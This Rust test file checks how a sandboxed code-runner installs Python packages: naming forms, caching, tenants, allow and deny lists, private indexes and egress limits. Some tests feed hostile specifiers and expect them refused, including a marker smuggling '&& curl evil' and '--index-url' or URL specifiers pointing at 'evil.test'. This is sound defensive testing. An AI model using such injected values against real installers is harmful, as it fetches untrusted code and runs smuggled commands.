//! Packages that runs ask for, from the real index by the real installer: however they are named, and what policy refuses. Attack group PK.

use super::sessions::{open, run};
use super::tenancy::Tenancy;
use fireclay_tests::server::PATIENCE;
use fireclay_tests::{Data, Server};
use model::{Outcome, RunResult};
use serde_json::{Value, json};
use std::net::ToSocketAddrs;
use std::path::PathBuf;
use std::time::Instant;

/// The index, which may be at an address of this network.
pub fn index() -> String {
    opened_for(&["pypi.org", "files.pythonhosted.org"])
}

/// The setting that opens the addresses that these hosts have here.
pub fn opened_for(hosts: &[&str]) -> String {
    let addresses = hosts.iter().flat_map(|host| {
        (*host, 443)
            .to_socket_addrs()
            .unwrap_or_else(|error| panic!("{host}: {error}; these tests need the index"))
    });
    let mut ranges: Vec<String> = addresses
        .filter(std::net::SocketAddr::is_ipv4)
        .map(|address| format!("\"{}/32\"", address.ip()))
        .collect();
    ranges.sort();
    ranges.dedup();
    format!("egress.private=[{}]", ranges.join(","))
}

pub fn start(data: &Data, settings: &[&str]) -> Server {
    let index = index();
    let mut arguments = vec!["--set", index.as_str()];
    arguments.extend(settings.iter().flat_map(|setting| ["--set", *setting]));
    Server::start_in(data, &arguments)
}

pub fn completed(server: &Server, request: &Value) -> RunResult {
    let result = server.run(request);
    assert_eq!(result.outcome, Some(Outcome::Completed), "{result:?}");
    result
}

pub fn rejected(server: &Server, request: &Value) -> Value {
    let (status, problem) = server.post_json("/v1/runs", request);
    assert_eq!(status, 422, "{problem}");
    problem
}

/// The environments of a tenant.
fn environments(data: &Data, tenant: &str) -> Vec<PathBuf> {
    let directory = data.path().join("packages").join(tenant);
    let entries = std::fs::read_dir(directory).into_iter().flatten().flatten().map(|entry| entry.path());
    entries.filter(|path| path.join("manifest.json").exists()).collect()
}

pub const VERSION: &str =
    "from importlib.metadata import version; import six; print(version('six'), six.PY3)";

#[test]
fn however_packages_are_named_they_are_there_and_built_once() {
    let data = Data::fresh();
    let server = start(&data, &[]);
    let said = json!({"language": "python", "code": VERSION, "packages": ["six==1.16.0"]});
    let first = completed(&server, &said);
    assert_eq!(first.stdout, "1.16.0 True\n");
    let block = format!("# /// script\n# dependencies = [\"six==1.16.0\"]\n# ///\n{VERSION}");
    let same = [
        json!({"language": "python", "code": block}),
        json!({"language": "python", "code": VERSION, "files": [{"path": "requirements.txt", "text": "# pinned\nsix == 1.16.0\n"}]}),
        json!({"language": "python", "code": VERSION, "files": [{"path": "pyproject.toml", "text": "[project]\nname = \"x\"\nversion = \"1\"\ndependencies = [\"six==1.16.0\"]\n"}]}),
        said.clone(),
    ];
    for request in &same {
        let result = completed(&server, request);
        assert_eq!(
            (result.stdout.as_str(), &result.digests.image),
            ("1.16.0 True\n", &first.digests.image),
            "{request}"
        );
    }
    assert_eq!(environments(&data, "local").len(), 1);
    // By what is imported; by another name than the distribution's.
    let found = json!({"language": "python", "code": "import yaml\nprint(yaml.safe_load('a: 1'))", "auto_packages": true});
    assert_eq!(completed(&server, &found).stdout, "{'a': 1}\n");
    let without = server.run(&json!({"language": "python", "code": "import yaml"}));
    assert_eq!(without.error.map(|error| error.name).as_deref(), Some("ModuleNotFoundError"));
    // Nothing of it may be written, and no network came with it.
    let writes = json!({"language": "python", "packages": ["six==1.16.0"],
        "code": "import six\ntry: open(six.__file__, 'a')\nexcept OSError as e: print(e.errno)\nimport os; print('http_proxy' in os.environ)"});
    assert_eq!(completed(&server, &writes).stdout, "30\nFalse\n");
    drop(server);
    // What is there is found by the next service, which needs no index for it.
    let offline = Server::start_in(&data, &["--set", "packages.offline=true"]);
    assert_eq!(completed(&offline, &said).stdout, "1.16.0 True\n");
    let problem =
        rejected(&offline, &json!({"language": "python", "code": "1", "packages": ["six==1.15.0"]}));
    assert!(problem["detail"].as_str().unwrap().contains("offline"), "{problem}");
}

#[test]
fn who_asks_at_once_waits_for_one_build() {
    let data = Data::fresh();
    let server = start(&data, &[]);
    let request = json!({"language": "python", "code": VERSION, "packages": ["six>=1.16"]});
    std::thread::scope(|scope| {
        let runs: Vec<_> = (0..8).map(|_| scope.spawn(|| completed(&server, &request))).collect();
        let digests: Vec<String> = runs.into_iter().map(|run| run.join().unwrap().digests.image).collect();
        assert!(digests.iter().all(|digest| *digest == digests[0]), "{digests:?}");
    });
    assert_eq!(environments(&data, "local").len(), 1);
}

#[test]
fn what_cannot_be_had_is_told_in_the_resolvers_words() {
    let server = start(&Data::fresh(), &[]);
    let asked =
        |package: &str| rejected(&server, &json!({"language": "python", "code": "1", "packages": [package]}));
    for (package, words) in [
        ("nosuchpkg-zz-0", "was not found in the package registry"),
        ("six>99", "you require six>99"),
        // It has no wheel: to build it would be to run it.
        ("docopt==0.6.2", "no usable wheels"),
        ("git+https://github.com/x/y", "version control"),
        ("six @ https://evil.test/six.whl", "URL"),
        ("./here", "path"),
        ("--index-url=https://evil.test six", "option"),
        ("six; os_name == 'x' && curl evil", "marker"),
    ] {
        let problem = asked(package);
        let detail = problem["detail"].as_str().unwrap();
        assert!(detail.contains(words), "{package}: {problem}");
        assert_eq!(problem["field"], "packages", "{problem}");
    }
    let python = rejected(
        &server,
        &json!({"language": "python", "code": "# /// script\n# requires-python = \"<3.5\"\n# ///\n1"}),
    );
    assert!(python["detail"].as_str().unwrap().contains(" here"), "{python}");
    let other = rejected(&server, &json!({"language": "bash", "code": "1", "packages": ["six"]}));
    assert!(other["detail"].as_str().unwrap().contains("bash"), "{other}");
}

#[test]
fn policy_says_which_and_what_comes_with_them() {
    let server = start(
        &Data::fresh(),
        &["packages.allow=[\"requests\",\"six\",\"urllib3\"]", "packages.deny=[\"urllib3\"]"],
    );
    let asked =
        |package: &str| rejected(&server, &json!({"language": "python", "code": "1", "packages": [package]}));
    assert!(asked("tabulate")["detail"].as_str().unwrap().contains("packages.allow"));
    assert!(asked("URLlib3")["detail"].as_str().unwrap().contains("packages.deny"));
    // It needs what is denied.
    let brings = asked("requests");
    assert!(brings["detail"].as_str().unwrap().contains("packages.deny"), "{brings}");
    let open = start(&Data::fresh(), &["packages.allow=[\"requests\"]"]);
    let code = "import requests, urllib3; print('both')";
    let request = json!({"language": "python", "code": code, "packages": ["requests"]});
    assert_eq!(completed(&open, &request).stdout, "both\n");
    // Releases that are younger than all are not seen.
    let old = start(&Data::fresh(), &["packages.min_age_ms=\"400000h\""]);
    let problem = rejected(&old, &json!({"language": "python", "code": "1", "packages": ["six"]}));
    assert!(problem["detail"].as_str().unwrap().contains("six"), "{problem}");
}

#[test]
fn tenants_have_their_own_and_sessions_have_them_too() {
    let data = Data::fresh();
    let index = index();
    let tenancy = Tenancy::start_in(&data, &["--set", &index]);
    for key in [&tenancy.a, &tenancy.b] {
        let request = json!({"language": "python", "code": VERSION, "packages": ["six==1.16.0"]});
        let (status, result) = tenancy.tell(key, "POST", "/v1/runs", &request);
        assert_eq!((status, result["stdout"].as_str()), (200, Some("1.16.0 True\n")), "{result}");
    }
    let tenants = std::fs::read_dir(data.path().join("packages")).unwrap().flatten();
    let tenants: Vec<String> = tenants.filter_map(|entry| entry.file_name().into_string().ok()).collect();
    assert_eq!(tenants.len(), 2, "{tenants:?}");
    assert!(tenants.iter().all(|tenant| environments(&data, tenant).len() == 1), "{tenants:?}");
}

#[test]
fn what_an_operator_lists_is_there_for_every_tenant() {
    let data = Data::fresh();
    let index = index();
    let lists = ["packages.cached=[\"six==1.16.0\"]", "agentrun.cached=[\"idna\"]"];
    let listed: Vec<&str> = lists.iter().flat_map(|list| ["--set", *list]).collect();
    let installing = Tenancy::start_in(&data, &[&["--set", &index], &listed[..]].concat());
    let until = Instant::now() + PATIENCE;
    while environments(&data, "operator.").len() < 2 {
        assert!(Instant::now() < until, "it is not installed ahead");
        std::thread::yield_now();
    }
    let Tenancy { server, a, b, .. } = installing;
    drop(server);
    // One that fetches nothing has it for everybody, and nothing else.
    let server = Server::start_in(&data, &[&["--set", "packages.offline=true"], &listed[..]].concat());
    let tenancy = Tenancy { server, admin: String::new(), a, b };
    for key in [&tenancy.a, &tenancy.b] {
        let mut request = json!({"language": "python", "code": VERSION, "packages": ["six==1.16.0"]});
        let (status, result) = tenancy.tell(key, "POST", "/v1/runs", &request);
        assert_eq!((status, result["stdout"].as_str()), (200, Some("1.16.0 True\n")), "{result}");
        request["packages"] = json!(["six==1.17.0"]);
        let (status, problem) = tenancy.tell(key, "POST", "/v1/runs", &request);
        assert_eq!((status, problem["field"].as_str()), (422, Some("packages")), "{problem}");
        let agentrun =
            |code: &str| tenancy.tell(key, "POST", "/v1/run/", &json!({"code": code})).1["output"].clone();
        assert_eq!(agentrun("import idna\nprint(idna.encode('a'))"), "b'a'\n");
        assert_eq!(agentrun("import six"), "Failed to install dependency six");
    }
    assert_eq!(environments(&data, "a").len() + environments(&data, "b").len(), 0);
    drop(tenancy);
    let against = ["serve", "--set", "agentrun.cached=[\"six\"]", "--set", "agentrun.whitelist=[\"numpy\"]"];
    let refused = data.command(&against).output().unwrap();
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(said.contains("Some cached dependencies are not in the whitelist."), "{said}");
}

#[test]
fn a_session_has_what_it_was_opened_with() {
    let server = start(&Data::fresh(), &[]);
    let session = open(&server, &json!({"packages": ["six==1.16.0"]}));
    assert_eq!(run(&server, &session, &json!({"code": VERSION}))["stdout"], "1.16.0 True\n");
    assert_eq!(run(&server, &session, &json!({"code": VERSION, "fresh": true}))["stdout"], "1.16.0 True\n");
}

/// What the command says of what is installed: each row of `fireclay cache list`.
fn cached(data: &Data) -> Vec<Value> {
    let listed = data.command(&["cache", "list", "--json"]).output().unwrap();
    assert!(listed.status.success(), "{listed:?}");
    String::from_utf8(listed.stdout)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

/// Has what is installed be unused for so many hours.
fn age(data: &Data, hours: u32) {
    let refs = data.path().join("packages/local/refs");
    let mut touch = std::process::Command::new("touch");
    touch.args(["-d", &format!("{hours} hours ago")]);
    touch.args(std::fs::read_dir(refs).unwrap().flatten().map(|entry| entry.path()));
    assert!(touch.status().unwrap().success());
}

#[test]
fn what_was_not_used_for_longest_goes_first() {
    let data = Data::fresh();
    let server = start(&data, &["packages.cache_bytes=1"]);
    let install_at = |server: &Server, name: &str| {
        let code = format!("import {name}");
        completed(server, &json!({"language": "python", "code": code, "packages": [name]}));
    };
    let install = |name: &str| install_at(&server, name);
    let packages = || cached(&data).iter().map(|row| row["packages"].to_string()).collect::<Vec<_>>();
    // What was used lately is not removed under a run, however little may be kept.
    install("six");
    install("colorama");
    let listed = packages();
    assert!(listed.len() == 2 && listed[0].contains("colorama") && listed[1].contains("six"), "{listed:?}");
    assert!(
        cached(&data).iter().all(|row| row["tenant"] == "local" && row["bytes"].as_u64().unwrap() > 1000)
    );
    age(&data, 2);
    install("six");
    install("idna");
    let listed = packages();
    assert!(listed.len() == 2 && listed[0].contains("idna") && listed[1].contains("six"), "{listed:?}");
    // By hand: while a service runs, what was used lately stays; then all goes, and is installed again when it is asked for.
    let prune = || {
        let pruned = data.command(&["cache", "prune"]).output().unwrap();
        assert!(pruned.status.success(), "{pruned:?}");
        String::from_utf8(pruned.stdout).unwrap()
    };
    assert!(prune().starts_with("removed 0, "));
    assert_eq!(packages().len(), 2);
    drop(server);
    assert!(prune().starts_with("removed 2, "));
    assert_eq!(packages(), Vec::<String>::new());
    install_at(&start(&data, &[]), "six");
    assert_eq!(packages().len(), 1);
}

/// What a batch has for items that do not say it themselves.
#[test]
fn items_of_a_batch_have_what_its_command_says() {
    let data = Data::fresh();
    let _server = start(&data, &[]);
    let file = data.path().join("items.jsonl");
    let own = json!({"language": "python", "code": VERSION, "packages": ["six==1.15.0"]});
    std::fs::write(&file, format!("{}\n\n{own}\nno item\n", json!({"language": "python", "code": VERSION})))
        .unwrap();
    let ran = data.command(&["batch", file.to_str().unwrap(), "--package", "six==1.16.0"]).output().unwrap();
    let said = String::from_utf8(ran.stdout).unwrap();
    let mut lines: Vec<Value> = said.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    lines.sort_by_key(|line| line["index"].as_u64());
    assert_eq!(lines.len(), 3, "{said} {}", String::from_utf8_lossy(&ran.stderr));
    assert!(lines[0].to_string().contains("1.16.0 True"), "{}", lines[0]);
    assert!(lines[1].to_string().contains("1.15.0 True"), "{}", lines[1]);
    assert!(lines[2].to_string().contains("problem"), "{}", lines[2]);
}

#[test]
fn a_run_of_a_session_brings_its_own() {
    let server = start(&Data::fresh(), &["packages.deny=[\"tabulate\"]"]);
    let session = open(&server, &json!({"packages": ["six==1.16.0"]}));
    let said = |asked: Value| {
        let result = run(&server, &session, &asked);
        assert_eq!(result["outcome"], "completed", "{result}");
        result["stdout"].as_str().unwrap().to_owned()
    };
    // It had looked for it, and not found it, before.
    assert_eq!(said(json!({"code": "try: import colorama\nexcept ImportError: print('none')"})), "none\n");
    let named = json!({"code": "from __future__ import annotations\nimport colorama\nprint(colorama.__name__)", "packages": ["colorama>=0.4.6"]});
    assert_eq!(said(named), "colorama\n");
    assert_eq!(said(json!({"code": "import colorama, six; print(six.__version__)"})), "1.16.0\n");
    // By what it imports; what lies beside it is meant before any package of that name.
    let found = json!({"code": "import idna, six\nprint(idna.encode('a.test'))", "auto_packages": true});
    assert_eq!(said(found), "b'a.test'\n");
    said(json!({"code": "open('tabulate.py', 'w').write('x = 1')"}));
    assert_eq!(said(json!({"code": "import tabulate; print(tabulate.x)", "auto_packages": true})), "1\n");
    said(json!({"code": "import os; os.remove('tabulate.py')"}));
    let asked = json!({"code": "import tabulate", "auto_packages": true});
    let (status, problem) = server.post_json(&format!("{session}/runs"), &asked);
    assert!(status == 422 && problem["detail"].as_str().unwrap().contains("packages.deny"), "{problem}");
    // A program beside the interpreter has them too.
    let fresh = json!({"code": "import idna, colorama; print('fresh')", "fresh": true});
    assert_eq!(said(fresh), "fresh\n");
    let bash = json!({"code": "true", "language": "bash", "packages": ["six"]});
    let (status, problem) = server.post_json(&format!("{session}/runs"), &bash);
    assert_eq!((status, problem["field"].as_str()), (422, Some("packages")), "{problem}");
}

/// A directory with an index (PEP 503) that has one package, which is data and no code of anybody's.
pub const MAKE_INDEX: &str = "import sys, zipfile, pathlib\n\
    root = pathlib.Path(sys.argv[1]) / 'simple' / 'six'; root.mkdir(parents=True)\n\
    name = 'six-0.0.1-py3-none-any.whl'; info = 'six-0.0.1.dist-info/'\n\
    with zipfile.ZipFile(root / name, 'w') as wheel:\n\
    \x20   wheel.writestr('six.py', 'PY3 = 2\\n')\n\
    \x20   wheel.writestr(info + 'METADATA', 'Metadata-Version: 2.1\\nName: six\\nVersion: 0.0.1\\n')\n\
    \x20   wheel.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\\nGenerator: us\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
    \x20   wheel.writestr(info + 'RECORD', 'six.py,,\\n' + ''.join(f'{info}{file},,\\n' for file in ('METADATA', 'WHEEL', 'RECORD')))\n\
    import hashlib\n\
    digest = hashlib.sha256((root / name).read_bytes()).hexdigest()\n\
    (root / 'index.html').write_text(f'<a href=\"{name}#sha256={digest}\">{name}</a>')\n\
    import http.server, functools\n\
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[1])\n\
    server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), handler)\n\
    print(server.server_port, flush=True)\n\
    server.serve_forever()\n";

/// What is ended with this.
struct Index(std::process::Child);

impl Drop for Index {
    fn drop(&mut self) {
        self.0.kill().unwrap();
        self.0.wait().unwrap();
    }
}

/// Of several indexes the first that knows a name is the one it comes from, whatever newer release another has; what it does not know comes from the next. Source is
/// built only where the operator says so.
#[test]
fn an_operators_indexes_come_first_and_source_is_built_where_it_may_be() {
    use std::io::{BufRead, BufReader};
    let data = Data::fresh();
    let place = data.path().join("index");
    let mut child = std::process::Command::new("python3")
        .args(["-c", MAKE_INDEX])
        .arg(&place)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut port = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut port).unwrap();
    let _index = Index(child);
    let address = format!("localhost:{}", port.trim());
    let indexes = format!("packages.indexes=[\"http://{address}/simple\"]");
    let hosts = format!("packages.hosts=[\"{address}\", \"pypi.org\", \"files.pythonhosted.org\"]");
    let opened = index().replace("]", ",\"127.0.0.0/8\",\"::1/128\"]");
    let settings = [indexes.as_str(), hosts.as_str(), opened.as_str(), "packages.source=true"];
    let arguments: Vec<&str> = settings.iter().flat_map(|setting| ["--set", *setting]).collect();
    let server = Server::start_in(&data, &arguments);
    let code = "import six, idna, docopt; print(six.PY3, idna.__name__, docopt.__version__)";
    // The last has no wheel anywhere; without the setting it is refused, as another test has it.
    let request = json!({"language": "python", "code": code, "packages": ["six", "idna", "docopt==0.6.2"]});
    assert_eq!(completed(&server, &request).stdout, "2 idna 0.6.2\n");
}

#[test]
fn agentruns_route_installs_what_is_imported_and_says_its_words() {
    let server = start(&Data::fresh(), &[]);
    let output = |server: &Server, code: &str| {
        server.post_json("/v1/run/", &json!({"code": code})).1["output"].clone()
    };
    assert_eq!(output(&server, "import six\nprint(six.PY3)"), "True\n");
    assert_eq!(output(&server, "import nosuchpkg_zz"), "Failed to install dependency nosuchpkg_zz");
    let none = start(&Data::fresh(), &["agentrun.whitelist=[]"]);
    assert_eq!(output(&none, "import six"), "Dependency: six is not in the whitelist.");
    assert_eq!(output(&none, "import json\nprint(json.dumps(1))"), "1\n");
    // What its check refuses brings nothing.
    assert_eq!(output(&server, "import six, os"), "Unsafe module import: os");
}

#[test]
fn beside_a_template_its_own_packages_stay_as_they_are() {
    let server = start(&Data::with_packages(), &[]);
    let code = "import numpy, tabulate\nfrom importlib.metadata import version\nprint(version('numpy'), tabulate.tabulate([[1]]) != '')";
    let plain = json!({"language": "python", "template": "python-data", "limits": {"timeout_ms": 50_000},
        "code": "from importlib.metadata import version\nprint(version('numpy'))"});
    let own = completed(&server, &plain).stdout.trim().to_owned();
    let request = json!({"language": "python", "template": "python-data", "code": code, "packages": ["tabulate", "numpy"],
        "limits": {"timeout_ms": 50_000}});
    assert_eq!(completed(&server, &request).stdout, format!("{own} True\n"));
    let against = rejected(
        &server,
        &json!({"language": "python", "template": "python-data", "code": "1", "packages": ["numpy<1"]}),
    );
    assert!(against["detail"].as_str().unwrap().contains("numpy"), "{against}");
}

/// `examples/packages` does what it says.
#[test]
fn the_examples_run() {
    let server = start(&Data::fresh(), &[]);
    let example = |name: &str| {
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../examples/packages/");
        std::fs::read_to_string(format!("{path}{name}")).unwrap()
    };
    let script = completed(&server, &json!({"language": "python", "code": example("script.py")}));
    assert!(script.stdout.contains("fireclay") && script.stdout.contains("42"), "{script:?}");
    let chart = json!({"language": "python", "code": example("chart.py"), "auto_packages": true,
        "files": [{"path": "stock.csv", "text": example("stock.csv")}]});
    let chart = completed(&server, &chart);
    assert_eq!((chart.stdout.as_str(), chart.artifacts[0].path.as_str()), ("moved +6.8 %\n", "chart.svg"));
    let fetch = json!({"language": "python", "code": example("fetch.py"), "egress": {"allow": ["pypi.org"]}});
    let fetch = completed(&server, &fetch);
    assert!(fetch.stdout.starts_with("six\nrefused: ") && fetch.stdout.contains("egress.allow"), "{fetch:?}");
    let told: Vec<_> = fetch.egress.iter().map(|tried| (tried.host.as_str(), tried.verdict.name())).collect();
    assert_eq!(told, [("pypi.org", "allowed"), ("example.org", "refused")]);
}

#[test]
fn a_cell_of_a_session_installs_what_it_names() {
    let server = start(&Data::fresh(), &["packages.deny=[\"tabulate\"]"]);
    let session = open(&server, &json!({"packages": ["six==1.16.0"]}));
    let said = |code: &str| {
        let result = run(&server, &session, &json!({"code": code}));
        assert_eq!(result["outcome"], "completed", "{result}");
        result["stdout"].as_str().unwrap().to_owned()
    };
    assert_eq!(said("try: import colorama\nexcept ImportError: print('none')"), "none\n");
    let cell = "kept = 7\n%pip install -q 'colorama>=0.4.6'  # for colours\nimport colorama\nprint(colorama.__version__ >= '0.4.6')";
    let told = said(cell);
    assert!(told.starts_with("Installed colorama 0.4") && told.ends_with("True\n"), "{told}");
    // It stays, beside what the session was opened with and what was done before; a fresh run finds it by the same line.
    assert_eq!(said("import colorama, six; print(kept, six.__version__)"), "7 1.16.0\n");
    let fresh =
        json!({"code": "!pip install colorama>=0.4.6\nimport colorama; print('fresh')", "fresh": true});
    assert!(run(&server, &session, &fresh)["stdout"].as_str().unwrap().ends_with("fresh\n"));
    // A line within a text is a text.
    assert_eq!(said("print('''\n%pip install tabulate\n''')"), "\n%pip install tabulate\n\n");
    for (code, words) in [
        ("%pip install tabulate", "packages.deny"),
        ("%pip install git+https://evil.test/x", "version control"),
        ("1\n!pip install --index-url https://evil.test six", "line 2"),
    ] {
        let (status, problem) = server.post_json(&format!("{session}/runs"), &json!({"code": code}));
        assert_eq!(status, 422, "{code}: {problem}");
        assert!(problem["detail"].as_str().unwrap().contains(words), "{code}: {problem}");
    }
    // No way out came with it.
    let out = said(
        "import os, socket\ntry: socket.create_connection(('pypi.org', 443), 3)\nexcept OSError: print('closed', 'https_proxy' in os.environ)",
    );
    assert_eq!(out, "closed False\n");
}

/// AgentRun's own story: a model's program asks a host for the price of a stock by a package that nobody has installed. The host is one of ours.
#[test]
fn agentruns_stock_story_is_told_by_a_host_that_the_operator_names() {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut lines = BufReader::new(&stream);
            let (mut first, mut line) = (String::new(), String::from("x"));
            lines.read_line(&mut first).unwrap_or_default();
            while !line.trim().is_empty() {
                line.clear();
                lines.read_line(&mut line).unwrap_or_default();
            }
            let price = if first.contains("/AAPL?") { "189.84" } else { "null" };
            let body =
                format!("{{\"chart\":{{\"result\":[{{\"meta\":{{\"regularMarketPrice\":{price}}}}}]}}}}");
            let head = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close";
            let text = format!("{head}\r\ncontent-length: {}\r\n\r\n{body}", body.len());
            drop((&stream).write_all(text.as_bytes()));
        }
    });
    // `no_proxy` names localhost, as it names no host of a real story.
    let code = format!(
        "import requests\n\ndef get_stock_price(symbol):\n    url = f'http://localhost:{port}/v8/finance/chart/{{symbol}}'\n    \
         response = requests.get(url, params={{'interval': '1d'}}, timeout=20, proxies={{'no_proxy': ''}})\n    response.raise_for_status()\n    \
         return response.json()['chart']['result'][0]['meta']['regularMarketPrice']\n\nprint(f\"Apple: ${{get_stock_price('AAPL')}}\")\n"
    );
    let told = |settings: &[&str]| {
        let server = start(&Data::fresh(), settings);
        let (status, answer) = server.post_json("/v1/run/", &json!({"code": code}));
        assert_eq!(status, 200, "{answer}");
        answer["output"].as_str().unwrap().to_owned()
    };
    let opened = index().replace(']', ",\"127.0.0.0/8\"]");
    let host = format!("agentrun.egress=[\"localhost:{port}\"]");
    assert_eq!(told(&[&opened, &host]), "Apple: $189.84\n");
    // Without the operator's word there is no way to it; nor by the list alone, the address being private.
    for settings in [vec![opened.as_str()], vec![host.as_str()]] {
        let output = told(&settings);
        assert!(output.contains("Error") && !output.contains("189.84"), "{settings:?}: {output}");
    }
}
